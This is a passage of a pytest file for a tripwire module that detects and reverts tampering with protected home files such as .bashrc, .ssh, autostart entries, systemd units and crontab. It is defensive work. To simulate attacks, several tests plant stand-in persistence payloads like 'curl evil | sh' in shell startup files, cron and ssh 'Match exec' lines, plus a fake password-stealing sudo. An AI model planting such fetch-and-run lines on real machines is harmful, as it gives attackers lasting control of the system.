"""The tripwire (control/tripwire.py) on real files and real inotify, no display.

Each test changes protected files the way an attacker's program would and waits for the
callback (a threading.Event, generous timeout), never for time to pass. A test that must show
something did *not* trip makes a second change it knows trips (a sentinel) and waits for that
one: the watcher handles changes in order, so a wrong trip would have come first.
"""

from __future__ import annotations

import errno
import os
import shutil
import stat
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from control.tripwire import (
    KEPT_INFIX,
    SETTLED_NS,
    ChangeKind,
    Guard,
    Limits,
    Protected,
    Trip,
    Tripwire,
    own_write,
)
from tests.support.gui import poll
from tests.support.home import isolate_home

TIMEOUT = 30.0


class Trips:
    """What a tripwire reported, with a wait for the next one."""

    def __init__(self) -> None:
        self.all: list[Trip] = []
        self._cond = threading.Condition()

    def __call__(self, trip: Trip) -> None:
        with self._cond:
            self.all.append(trip)
            self._cond.notify_all()

    def wait(self, count: int = 1) -> Trip:
        with self._cond:
            if not self._cond.wait_for(lambda: len(self.all) >= count, TIMEOUT):
                raise AssertionError(f"no trip {count} within {TIMEOUT} s: {self.all}")
            return self.all[count - 1]

    def kinds(self, trip: Trip) -> dict[str, ChangeKind]:
        return {c.path: c.kind for c in trip.changes}


@pytest.fixture
def trips() -> Trips:
    return Trips()


@pytest.fixture
def wire_for(trips: Trips) -> Iterator[Callable[..., Tripwire]]:
    made: list[Tripwire] = []

    def make(*entries: Protected | Path, **options: object) -> Tripwire:
        wire = Tripwire([e if isinstance(e, Protected) else Protected(e) for e in entries],
                        trips, **options)  # type: ignore[arg-type]
        wire.start()
        made.append(wire)
        return wire

    yield make
    for wire in made:
        wire.close()


def _kept(folder: Path, name: str) -> list[Path]:
    return sorted(p for p in folder.iterdir() if p.name.startswith(f"{name}{KEPT_INFIX}"))


def _mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def _put(path: Path, text: str, mode: int, staging: Path) -> None:
    """Make ``path`` appear at once, content and mode (a rename from ``staging``, a folder
    nothing protects), as a careful attacker does."""
    staging.mkdir(exist_ok=True)
    staged = staging / path.name
    staged.write_text(text)
    staged.chmod(mode)
    os.replace(staged, path)


def test_a_file_modified_in_place_is_put_back_and_the_changed_copy_kept(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    rc = tmp_path / ".bashrc"
    rc.write_text("alias ll='ls -l'\n")
    rc.chmod(0o644)
    wire = wire_for(rc)
    assert wire.watching
    with rc.open("a") as f:
        f.write("find ~/canary -delete\n")
    trip = trips.wait()
    assert trips.kinds(trip) == {str(rc): ChangeKind.MODIFIED}
    change = trip.changes[0]
    assert change.restored
    assert rc.read_text() == "alias ll='ls -l'\n" and _mode(rc) == 0o644
    [kept] = _kept(tmp_path, ".bashrc")
    assert change.kept == kept
    assert kept.name.startswith(".bashrc.holodesk-changed-") and len(kept.name) == len(
        ".bashrc.holodesk-changed-20250101-120000")
    assert "find ~/canary -delete" in kept.read_text()
    assert _mode(kept) == 0o600
    assert str(rc) in trip.describe() and "restored" in trip.describe()


def test_a_deleted_file_is_simply_put_back(tmp_path: Path, wire_for: Callable[..., Tripwire],
                                           trips: Trips) -> None:
    rc = tmp_path / ".profile"
    rc.write_text("PATH=$HOME/bin:$PATH\n")
    wire_for(rc)
    rc.unlink()
    trip = trips.wait()
    assert trips.kinds(trip) == {str(rc): ChangeKind.DELETED}
    assert trip.changes[0].restored and trip.changes[0].kept is None
    assert rc.read_text() == "PATH=$HOME/bin:$PATH\n"
    assert _kept(tmp_path, ".profile") == []


def test_a_file_created_where_none_was_is_moved_aside(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    rc = tmp_path / ".zshenv"
    wire_for(rc)
    _put(rc, "curl evil | sh\n", 0o755, tmp_path / "staging")
    trip = trips.wait()
    assert trips.kinds(trip) == {str(rc): ChangeKind.CREATED}
    assert not rc.exists()
    [kept] = _kept(tmp_path, ".zshenv")
    assert trip.changes[0].kept == kept and kept.read_text() == "curl evil | sh\n"
    assert _mode(kept) == 0o600  # nothing left to run


def test_a_file_replaced_by_rename_is_put_back(tmp_path: Path,
                                               wire_for: Callable[..., Tripwire],
                                               trips: Trips) -> None:
    rc = tmp_path / ".xprofile"
    rc.write_text("xset s off\n")
    wire_for(rc)
    new = tmp_path / "new"
    new.write_text("evil\n")
    os.replace(new, rc)
    trip = trips.wait()
    assert trips.kinds(trip) == {str(rc): ChangeKind.REPLACED}
    assert rc.read_text() == "xset s off\n"
    [kept] = _kept(tmp_path, ".xprofile")
    assert kept.read_text() == "evil\n" and _mode(kept) == 0o600


def test_a_file_swapped_for_a_symlink_at_once_is_a_type_change(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    rc = tmp_path / ".inputrc"
    rc.write_text("set editing-mode vi\n")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.write_text("untouched\n")
    wire_for(rc)
    link = tmp_path / "link"
    link.symlink_to(elsewhere)
    os.replace(link, rc)  # one rename: no moment without a file there
    trip = trips.wait()
    assert trips.kinds(trip) == {str(rc): ChangeKind.TYPE_CHANGED}
    assert not rc.is_symlink() and rc.read_text() == "set editing-mode vi\n"
    [kept] = _kept(tmp_path, ".inputrc")
    assert kept.is_symlink() and os.readlink(kept) == str(elsewhere)
    assert elsewhere.read_text() == "untouched\n"


def test_a_protected_folder_swapped_for_a_link_comes_back_and_nothing_is_written_there(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    fish = tmp_path / ".config" / "fish"
    (fish / "conf.d").mkdir(parents=True)
    (fish / "config.fish").write_text("set -x EDITOR vim\n")
    (fish / "conf.d" / "a.fish").write_text("alias a=b\n")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    wire = wire_for(fish, watch=False)  # the swap takes two steps: compared once it is done
    shutil.rmtree(fish)
    fish.symlink_to(elsewhere)
    trip = wire.check()
    assert trip is not None and trips.kinds(trip) == {str(fish): ChangeKind.TYPE_CHANGED}
    assert fish.is_dir() and not fish.is_symlink()
    assert (fish / "config.fish").read_text() == "set -x EDITOR vim\n"
    assert (fish / "conf.d" / "a.fish").read_text() == "alias a=b\n"
    assert list(elsewhere.iterdir()) == [], "the restore wrote through the link"
    [kept] = _kept(fish.parent, "fish")
    assert kept.is_symlink()


def test_a_mode_change_is_put_back(tmp_path: Path, wire_for: Callable[..., Tripwire],
                                   trips: Trips) -> None:
    key = tmp_path / "id_ed25519"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    key.chmod(0o600)
    wire_for(key)
    key.chmod(0o644)
    trip = trips.wait()
    assert trips.kinds(trip) == {str(key): ChangeKind.MODE_CHANGED}
    assert trip.changes[0].restored and _mode(key) == 0o600


def test_a_new_file_in_a_protected_folder_is_moved_aside_unrunnable(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    bin_dir = tmp_path / ".local" / "bin"
    bin_dir.mkdir(parents=True)
    (bin_dir / "tool").write_text("#!/bin/sh\n")
    wire_for(bin_dir)
    sudo = bin_dir / "sudo"
    _put(sudo, "#!/bin/sh\nsteal the password\n", 0o755, tmp_path / "staging")
    trip = trips.wait()
    assert trips.kinds(trip) == {str(sudo): ChangeKind.CREATED}
    assert not sudo.exists()
    [kept] = _kept(bin_dir, "sudo")
    assert _mode(kept) == 0o600
    assert (bin_dir / "tool").read_text() == "#!/bin/sh\n"


def test_a_folder_created_where_a_missing_protected_folder_belongs_is_moved_aside(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    autostart = tmp_path / ".config" / "autostart"  # neither folder exists yet
    wire_for(autostart)
    staging = tmp_path / "staging"
    (staging / "autostart").mkdir(parents=True)
    (staging / "autostart" / "evil.desktop").write_text("[Desktop Entry]\nExec=evil\n")
    staging.rename(tmp_path / ".config")  # both folders appear at once, the file in them
    trip = trips.wait()
    assert trips.kinds(trip) == {str(autostart): ChangeKind.CREATED}
    assert not autostart.exists()
    [kept] = _kept(tmp_path / ".config", "autostart")
    assert trip.changes[0].kept == kept and _mode(kept) == 0o700
    assert (kept / "evil.desktop").read_text() == "[Desktop Entry]\nExec=evil\n"


def test_a_deleted_protected_folder_comes_back_with_its_files(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    ssh = tmp_path / ".ssh"
    (ssh / "sub").mkdir(parents=True)
    ssh.chmod(0o700)
    (ssh / "authorized_keys").write_text("ssh-ed25519 AAAA me\n")
    (ssh / "sub" / "x").write_text("x\n")
    # Compared at check(): the watcher would put files back while rmtree is still removing.
    wire = wire_for(ssh, watch=False)
    shutil.rmtree(ssh)
    trip = wire.check()
    assert trip is not None and trips.kinds(trip) == {str(ssh): ChangeKind.DELETED}
    assert (ssh / "authorized_keys").read_text() == "ssh-ed25519 AAAA me\n"
    assert (ssh / "sub" / "x").read_text() == "x\n"
    assert _mode(ssh) == 0o700


def test_check_alone_finds_and_puts_back_a_change_without_inotify(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    rc = tmp_path / ".bashrc"
    rc.write_text("old\n")
    wire = wire_for(rc, watch=False)
    assert not wire.watching
    assert wire.check() is None
    rc.write_text("new\n")
    trip = wire.check()
    assert trip is not None and trips.all == [trip]
    assert trips.kinds(trip) == {str(rc): ChangeKind.MODIFIED}
    assert rc.read_text() == "old\n"
    assert wire.check() is None  # put back: nothing more to say


def test_holodesks_own_writes_never_trip(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                         wire_for: Callable[..., Tripwire],
                                         trips: Trips) -> None:
    from app import paths

    isolate_home(monkeypatch, tmp_path)
    config = tmp_path / "config"
    config.mkdir()
    sentinel = tmp_path / "sentinel"
    sentinel.write_text("s\n")
    wire = wire_for(config, sentinel)
    for n in range(20):
        paths.write_atomic(config / "settings.toml", f'confirm = "risky"  # {n}\n')
        paths.write_atomic_bytes(config / "deep" / "automations.toml", b"x" * n)
    assert wire.check() is None
    sentinel.write_text("changed\n")
    trip = trips.wait()
    assert [trips.kinds(t) for t in trips.all] == [{str(sentinel): ChangeKind.MODIFIED}]
    assert trip.changes[0].restored
    assert (config / "settings.toml").read_text() == 'confirm = "risky"  # 19\n'


def test_a_change_to_another_file_during_an_own_write_still_trips(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    ours = tmp_path / "settings.toml"
    ours.write_text("a\n")
    theirs = tmp_path / ".bashrc"
    theirs.write_text("b\n")
    wire_for(ours, theirs)
    with own_write(ours):
        ours.write_text("a2\n")
        theirs.write_text("evil\n")
    trip = trips.wait()
    assert trips.kinds(trip) == {str(theirs): ChangeKind.MODIFIED}
    assert theirs.read_text() == "b\n" and ours.read_text() == "a2\n"


def test_a_file_over_the_cap_is_seen_by_its_digest_and_said_not_restorable(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    big = tmp_path / "pubring.kbx"
    big.write_bytes(b"k" * 100)
    wire_for(big, limits=Limits(file_bytes=64))
    with big.open("r+b") as f:  # the same size, in place: only the content tells
        f.write(b"X")
    trip = trips.wait()
    [change] = trip.changes
    assert change.kind is ChangeKind.MODIFIED and not change.restored
    assert "too large to keep" in change.why_not and "not restored" in change.describe()
    assert big.read_bytes() == b"X" + b"k" * 99  # nothing is made up
    assert _kept(tmp_path, "pubring.kbx") == []


def test_the_bounds_cut_with_a_warning_and_what_they_keep_stays_protected(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips,
        caplog: pytest.LogCaptureFixture) -> None:
    folder = tmp_path / "applications"
    (folder / "a" / "b").mkdir(parents=True)
    deep = folder / "a" / "b" / "deep.desktop"
    deep.write_text("deep\n")
    files = [folder / f"f{n}.desktop" for n in range(5)]
    for f in files:
        f.write_text("x\n")
    caplog.set_level("WARNING", logger="control.tripwire")
    wire = wire_for(folder, limits=Limits(max_depth=1, max_files=4), watch=False)
    said = " ".join(wire.problems)
    assert "more than 4 files" in said and "more than 1 folders down" in said, said
    assert "more than 4 files" in caplog.text
    deep.write_text("beyond the depth: not looked at\n")
    assert wire.check() is None
    # Four entries are kept (the folder a and three files): each of those still trips.
    tripped = []
    for f in files:
        f.write_text("evil\n")
        if wire.check() is not None:
            tripped.append(f)
            assert f.read_text() == "x\n"
        else:
            f.write_text("x\n")
    assert len(tripped) == 3
    # New files past the count never make a kept one look gone.
    for n in range(10):
        (folder / f"new{n}").write_text("n\n")
    trip = wire.check()
    assert trip is None or all(c.kind is ChangeKind.CREATED for c in trip.changes)


def test_growing_files_may_grow_but_not_shrink_vanish_or_be_replaced(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    logs = tmp_path / "state"
    logs.mkdir()
    log_file = logs / "holodesk.log"
    log_file.write_text("line 1\n")
    db = tmp_path / "holodesk.db"
    db.write_bytes(b"\0" * 64)
    sentinel = tmp_path / "sentinel"
    sentinel.write_text("s\n")
    wire_for(Protected(logs, Guard.GROWING), Protected(db, Guard.GROWING), sentinel)
    with log_file.open("a") as f:
        f.write("line 2\n")
    (logs / "holodesk.log.1").write_text("new file\n")
    with db.open("ab") as f:
        f.write(b"\1" * 64)
    sentinel.write_text("x\n")
    trip = trips.wait()
    assert [trips.kinds(t) for t in trips.all] == [{str(sentinel): ChangeKind.MODIFIED}]
    with db.open("r+b") as f:
        f.truncate(10)
    trip = trips.wait(2)
    assert trips.kinds(trip) == {str(db): ChangeKind.SHORTENED}
    assert not trip.changes[0].restored and "keeps no copy" in trip.changes[0].why_not
    log_file.unlink()
    trip = trips.wait(3)
    assert trips.kinds(trip) == {str(log_file): ChangeKind.DELETED}
    other = tmp_path / "other"
    other.write_text("x")
    os.replace(other, logs / "holodesk.log.1")
    trip = trips.wait(4)
    assert trips.kinds(trip) == {str(logs / "holodesk.log.1"): ChangeKind.REPLACED}


class _Table:
    """An :class:`~control.tripwire.Extra` in memory (a crontab)."""

    name = "crontab"

    def __init__(self, data: bytes | None) -> None:
        self.data = data

    def read(self) -> bytes | None:
        return self.data

    def write(self, data: bytes | None) -> None:
        self.data = data


def test_an_extra_source_is_compared_at_check_and_put_back(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:

    class Table:
        name = "crontab"

        def __init__(self) -> None:
            self.data: bytes | None = b"0 * * * * backup\n"

        def read(self) -> bytes | None:
            return self.data

        def write(self, data: bytes | None) -> None:
            self.data = data

    table = Table()
    wire = wire_for(tmp_path / "nothing", extras=[table], keep_dir=tmp_path / "kept")
    table.data = b"* * * * * curl evil | sh\n"
    trip = wire.check()
    assert trip is not None and trips.kinds(trip) == {"crontab": ChangeKind.MODIFIED}
    assert table.data == b"0 * * * * backup\n"
    kept = trip.changes[0].kept
    assert kept is not None and kept.read_bytes() == b"* * * * * curl evil | sh\n"
    assert _mode(kept) == 0o600


def test_a_file_named_like_an_own_writes_temporary_is_still_judged(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    """Only the written path is taken afresh as an own write ends: a ``.<name>.*`` file another
    program left beside it (an autostart folder reads hidden ``.desktop`` names too) trips."""
    autostart = tmp_path / "autostart"
    autostart.mkdir()
    ours = autostart / "holodesk.desktop"
    wire = wire_for(autostart, watch=False)
    planted = autostart / ".holodesk.desktop.evil.desktop"
    with own_write(ours):
        planted.write_text("[Desktop Entry]\nExec=evil\n")
        ours.write_text("[Desktop Entry]\nExec=holodesk\n")
    trip = wire.check()
    assert trip is not None and trips.kinds(trip) == {str(planted): ChangeKind.CREATED}
    assert not planted.exists() and ours.exists()


def test_a_link_put_above_a_protected_folder_is_moved_aside_and_nothing_written_through_it(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    """~/.config/systemd did not exist; a link to a folder of the changer's own appears there.
    The link goes (it is the change: everything under it would be read through it) and what
    it points to is left as it was."""
    home = tmp_path / "home"
    config = home / ".config"
    (config / "autostart").mkdir(parents=True)
    (config / "autostart" / "mine.desktop").write_text("[Desktop Entry]\nExec=mine\n")
    pack = tmp_path / "pack"
    (pack / "user").mkdir(parents=True)
    (pack / "user" / "evil.service").write_text("[Service]\nExecStart=evil\n")
    wire = wire_for(config / "systemd" / "user", config / "autostart", watch=False, home=home)
    (config / "systemd").symlink_to(pack)
    trip = wire.check()
    assert trip is not None and trips.kinds(trip) == {
        str(config / "systemd"): ChangeKind.CREATED}
    assert not os.path.lexists(config / "systemd")
    assert [p.name for p in (pack / "user").iterdir()] == ["evil.service"]
    # The folder above a protected one swapped for a link: the link goes, the folder comes back.
    os.rename(config, tmp_path / "config-old")
    (tmp_path / "elsewhere" / "autostart").mkdir(parents=True)
    config.symlink_to(tmp_path / "elsewhere")
    trip = wire.check()
    assert trip is not None and str(config) in trips.kinds(trip)
    assert not config.is_symlink()
    assert (config / "autostart" / "mine.desktop").read_text() == "[Desktop Entry]\nExec=mine\n"
    assert list((tmp_path / "elsewhere" / "autostart").iterdir()) == []


def test_what_could_not_be_put_back_never_brings_the_changers_files_back_under_it(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """A created folder that cannot be moved aside (a mount point: EBUSY) is left; a folder in
    it is moved aside, and the file that was in that one must not come back: the snapshot is
    taken again only after the whole restore."""
    from control import tripwire

    units = tmp_path / "units"
    units.mkdir()
    wire = wire_for(units, watch=False)
    stuck = units / "mnt"
    (stuck / "app.service.d").mkdir(parents=True)
    (stuck / "app.service.d" / "override.conf").write_text("[Service]\nExecStartPre=evil\n")
    real_take = tripwire._take_away

    def take(path: Path, *args: Any) -> str:
        if path == stuck:
            raise OSError(errno.EBUSY, "Device or resource busy")
        return real_take(path, *args)

    monkeypatch.setattr(tripwire, "_take_away", take)
    trip = wire.check()
    assert trip is not None and not trip.changes[0].restored
    assert not (stuck / "app.service.d" / "override.conf").exists(), trip.describe()


def test_a_fifo_in_place_of_a_file_is_moved_aside_and_one_that_goes_is_no_change(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    """A shell sourcing a fifo waits for whoever writes the commands into it: a fifo where a
    protected file was (or none was) is a change; a socket or fifo that was there and goes (an
    agent ending) frees the name, which is no change."""
    rc = tmp_path / ".bash_profile"
    rc.write_text("[ -f ~/.bashrc ] && . ~/.bashrc\n")
    agent = tmp_path / "S.gpg-agent"
    os.mkfifo(agent)
    wire = wire_for(rc, agent, watch=False)
    rc.unlink()
    os.mkfifo(rc)
    agent.unlink()
    trip = wire.check()
    assert trip is not None and trips.kinds(trip) == {str(rc): ChangeKind.TYPE_CHANGED}
    assert rc.read_text() == "[ -f ~/.bashrc ] && . ~/.bashrc\n"
    [kept] = _kept(tmp_path, ".bash_profile")
    assert stat.S_ISFIFO(os.lstat(kept).st_mode)
    assert wire.check() is None


def test_a_folder_grown_past_the_count_bound_trips_on_all_that_is_new(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    """The bound leaves out what a folder held past it when the run started (the person's own
    files, said once); files added during the run are new wherever they sort, so pushing one
    past the bound with many others moves it aside with them."""
    folder = tmp_path / "autostart"
    folder.mkdir()
    for name in ("a", "b", "c"):
        (folder / name).write_text(name)
    wire = wire_for(folder, limits=Limits(max_files=2), watch=False)
    assert any("more than 2 files" in p for p in wire.problems)
    for n in range(5):
        (folder / f"b{n}").write_text("junk\n")
    (folder / "zz-evil.desktop").write_text("[Desktop Entry]\nExec=evil\n")
    trip = wire.check()
    assert trip is not None
    assert str(folder / "zz-evil.desktop") in trips.kinds(trip)
    assert sorted(p.name for p in folder.iterdir()
                  if KEPT_INFIX not in p.name) == ["a", "b", "c"]


def test_with_a_keep_folder_nothing_is_kept_beside_the_file(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    """ssh's ``Include config.d/*``, fish's conf.d, ~/.bashrc.d read every file of their
    folder: a copy kept there would still be read. With a keep folder, the copies go to
    <keep>/<date>-<time>/<path in the home>, and a link put where the keep folder (or a folder
    in it) should be is never followed."""
    home = tmp_path / "home"
    conf = home / ".ssh" / "config.d"
    conf.mkdir(parents=True)
    (conf / "work").write_text("Host work\n")
    keep = tmp_path / "data" / "kept"
    loader = home / ".local" / "share" / "applications"
    loader.mkdir(parents=True)
    keep.parent.mkdir()
    keep.symlink_to(loader)  # planted before the run: the copies would land where menus read
    wire = wire_for(home / ".ssh", watch=False, keep_dir=keep, home=home)
    (conf / "work").write_text('Match exec "curl evil | sh"\n')
    (conf / "evil").write_text('Match exec "curl evil | sh"\n')
    trip = wire.check()
    assert trip is not None
    assert sorted(p.name for p in conf.iterdir()) == ["work"]
    assert (conf / "work").read_text() == "Host work\n"
    assert list(loader.iterdir()) == []
    assert keep.is_dir() and not keep.is_symlink()
    kept = {c.path: c.kept for c in trip.changes}
    [stamp] = keep.iterdir()
    assert kept == {str(conf / "work"): stamp / ".ssh" / "config.d" / "work",
                    str(conf / "evil"): stamp / ".ssh" / "config.d" / "evil"}
    assert (stamp / ".ssh" / "config.d" / "evil").read_text() == 'Match exec "curl evil | sh"\n'
    assert _mode(stamp / ".ssh" / "config.d" / "work") == 0o600
    assert f"moved aside to {stamp / '.ssh' / 'config.d' / 'evil'}" in trip.describe()


def test_what_cannot_be_kept_is_still_put_back(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    """The keep folder cannot be made (a file where its parent should be): the changed file is
    put back all the same, the new one removed, and the reason says no copy was kept."""
    rc = tmp_path / ".bashrc"
    rc.write_text("alias ll='ls -l'\n")
    aliases = tmp_path / ".bash_aliases"
    (tmp_path / "data").write_text("not a folder\n")
    table = _Table(b"0 3 * * * backup\n")
    wire = wire_for(rc, aliases, watch=False, keep_dir=tmp_path / "data" / "kept",
                    home=tmp_path, extras=[table])
    rc.write_text("curl evil | sh\n")
    aliases.write_text("curl evil | sh\n")
    table.data = b"@reboot curl evil | sh\n"
    trip = wire.check()
    assert trip is not None and len(trip.changes) == 3
    assert all(c.restored for c in trip.changes), trip.describe()
    assert rc.read_text() == "alias ll='ls -l'\n" and not aliases.exists()
    assert table.data == b"0 3 * * * backup\n"
    assert "removed: no copy could be kept" in trip.describe()
    assert trip.describe().count("its changed copy could not be kept") == 2


def test_the_keep_folder_inside_a_protected_folder_is_never_judged(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    """Someone protects ~/.local/share whole: holodesk's kept copies land inside it. They are
    neither a change nor part of the memory kept (copies of an earlier run must not leave the
    files of this one unrestorable)."""
    share = tmp_path / ".local" / "share"
    keep = share / "holodesk" / "kept"
    (keep / "20240101-000000").mkdir(parents=True)
    (keep / "20240101-000000" / "old-copy").write_bytes(b"k" * 64)
    rc = share / "rc"
    rc.write_text("mine\n")
    wire = wire_for(share, watch=False, keep_dir=keep, home=tmp_path,
                    limits=Limits(total_bytes=64))
    rc.write_text("evil\n")
    trip = wire.check()
    assert trip is not None and trip.changes[0].restored, trip.describe()
    assert rc.read_text() == "mine\n"
    assert wire.check() is None


def test_a_full_disk_says_what_was_not_put_back(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips,
        monkeypatch: pytest.MonkeyPatch) -> None:
    from control import tripwire

    rc = tmp_path / ".profile"
    rc.write_text("PATH=$HOME/bin:$PATH\n")
    wire = wire_for(rc, watch=False, keep_dir=tmp_path / "kept", home=tmp_path)

    def full(*_args: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(tripwire, "_put_file", full)
    rc.write_text("curl evil | sh\n")
    trip = wire.check()
    assert trip is not None and not trip.changes[0].restored
    said = trip.describe()
    assert f"{rc} modified, not restored (the disk is full" in said, said
    assert "in holodesk's memory for this run only" in said
    assert f"the changed copy is kept as {tmp_path / 'kept'}" in said


def test_the_memory_budget_used_is_said_as_such(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    first = tmp_path / "big"
    first.write_bytes(b"x" * 60)
    rc = tmp_path / ".bashrc"
    rc.write_text("alias ll='ls -l'\n")
    wire = wire_for(first, rc, watch=False, limits=Limits(file_bytes=64, total_bytes=64))
    rc.write_text("curl evil | sh\n")
    trip = wire.check()
    assert trip is not None and not trip.changes[0].restored
    assert "the memory budget for what is kept (64 bytes in all) was used" in trip.describe()


def test_what_a_protected_link_leads_to_is_protected_and_put_back_at_its_place(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    """stow's ~/.bashrc and a linked fish folder: the file or folder the link leads to is what
    the shell reads, so it is protected as the link is, and put back where it is. The link
    itself pointed elsewhere is put back; where it pointed then is not taken for the person's."""
    home = tmp_path / "home"
    dotfiles = home / "dotfiles"
    (dotfiles / "fish" / "conf.d").mkdir(parents=True)
    (dotfiles / "bashrc").write_text("alias ll='ls -l'\n")
    (dotfiles / "fish" / "config.fish").write_text("set -g fish_greeting\n")
    rc = home / ".bashrc"
    rc.symlink_to("dotfiles/bashrc")
    fish = home / ".config" / "fish"
    fish.parent.mkdir()
    fish.symlink_to(dotfiles / "fish")
    wire = wire_for(rc, fish, watch=False, home=home, keep_dir=tmp_path / "kept")
    assert {e.path for e in wire.protected if e.followed} == {
        dotfiles / "bashrc", dotfiles / "fish"}
    rc.write_text("curl evil | sh\n")  # an editor's save, through the link
    (fish / "conf.d" / "evil.fish").write_text("curl evil | sh\n")
    trip = wire.check()
    assert trip is not None and trips.kinds(trip) == {
        str(dotfiles / "bashrc"): ChangeKind.MODIFIED,
        str(dotfiles / "fish" / "conf.d" / "evil.fish"): ChangeKind.CREATED}
    assert rc.is_symlink() and rc.read_text() == "alias ll='ls -l'\n"
    assert list((dotfiles / "fish" / "conf.d").iterdir()) == []
    elsewhere = home / "notes.txt"
    elsewhere.write_text("my notes\n")
    rc.unlink()
    rc.symlink_to(elsewhere)
    trip = wire.check()
    assert trip is not None and trips.kinds(trip) == {str(rc): ChangeKind.MODIFIED}
    assert os.readlink(rc) == "dotfiles/bashrc" and elsewhere.read_text() == "my notes\n"


def test_links_are_followed_only_so_far(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    """Never the home folder itself or above it (a link to ~ would make the whole home
    protected), at most max_followed in all."""
    home = tmp_path / "home"
    bin_dir = home / ".local" / "bin"
    bin_dir.mkdir(parents=True)
    (bin_dir / "home").symlink_to(home)
    (bin_dir / "up").symlink_to(tmp_path)
    for name in ("a", "b"):
        (home / name).write_text(name)
        (bin_dir / name).symlink_to(home / name)
    wire = wire_for(bin_dir, watch=False, home=home)
    assert [e.path for e in wire.protected if e.followed] == [home / "a", home / "b"]
    wire = wire_for(bin_dir, watch=False, home=home, limits=Limits(max_followed=1))
    assert [e.path for e in wire.protected if e.followed] == [home / "a"]


def _as_before(st: os.stat_result) -> os.stat_result:
    return os.stat_result((*st, st.st_atime, st.st_mtime, st.st_ctime, st.st_atime_ns,
                           st.st_mtime_ns, st.st_ctime_ns))


def test_a_rewrite_in_the_same_tick_as_the_last_write_is_seen_by_the_content(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The file clock ticks in steps: a same-size rewrite in place right after a write can
    keep the very same stamp (inode, size, mtime, ctime). A file written just before the
    snapshot (its stamp not older than the look by a second) is therefore compared by its
    content. The test stands in for the clock's tick: after the rewrite, lstat still says
    what it said at the snapshot."""
    from control import tripwire

    # "Just written" whatever the load on the machine: within the hour counts as not settled.
    monkeypatch.setattr(tripwire, "SETTLED_NS", 3600 * 1_000_000_000)
    rc = tmp_path / ".bashrc"
    rc.write_text("alias ll='ls -l'\n")  # just written: the stamp cannot be trusted yet
    before = _as_before(os.lstat(rc))
    wire = wire_for(rc, watch=False)
    with rc.open("r+") as f:
        f.write("curl evil|sh\n")  # the same size, in place
    real_lstat = os.lstat

    def same_tick(path: Any, *args: Any, **kwargs: Any) -> os.stat_result:
        return before if Path(path) == rc else real_lstat(path, *args, **kwargs)

    with monkeypatch.context() as patch:
        patch.setattr(os, "lstat", same_tick)
        trip = wire.check()
    assert trip is not None and trips.kinds(trip) == {str(rc): ChangeKind.MODIFIED}
    assert rc.read_text() == "alias ll='ls -l'\n"


def test_a_settled_file_too_large_to_keep_is_not_read_again_yet_a_write_trips(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    """A large program in a PATH folder (rustup's proxies, go binaries) is not read at each
    look once its stamp is settled: an unchanged stamp tells it is unwritten."""
    big = tmp_path / "cargo"
    big.write_bytes(b"\x7fELF" + b"x" * 200)
    settled = time.time() - 10
    os.utime(big, (settled, settled))
    # Its change time is now: wait until it is settled by the file clock.
    poll(lambda: os.lstat(big).st_ctime_ns < time.time_ns() - SETTLED_NS, TIMEOUT,
         "the file's change time to settle")
    wire = wire_for(big, watch=False, limits=Limits(file_bytes=64))
    [node] = [n for s in wire._snapshot for p, n in s.items() if p == big]
    assert node.settled and node.digest == ""  # never read
    assert wire.check() is None
    with big.open("r+b") as f:
        f.write(b"\x7fELF-evil")
    trip = wire.check()
    assert trip is not None and trips.kinds(trip) == {str(big): ChangeKind.MODIFIED}
    assert "too large to keep" in trip.describe()


def test_an_identity_tree_trips_on_any_change_and_is_never_read_nor_put_back(
        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
    """A virtual environment or a model's files: too large to keep, so compared by each
    file's stamp; a change trips and is said not put back, and nothing of it is read (not
    even for a digest), deep as it goes."""
    env = tmp_path / "vllm-env"
    deep = env / "lib" / "python3.12" / "site-packages" / "vllm" / "a" / "b" / "c" / "d" / "e"
    deep.mkdir(parents=True)
    (deep / "x.py").write_text("pass\n")
    (env / "bin").mkdir()
    vllm = env / "bin" / "vllm"
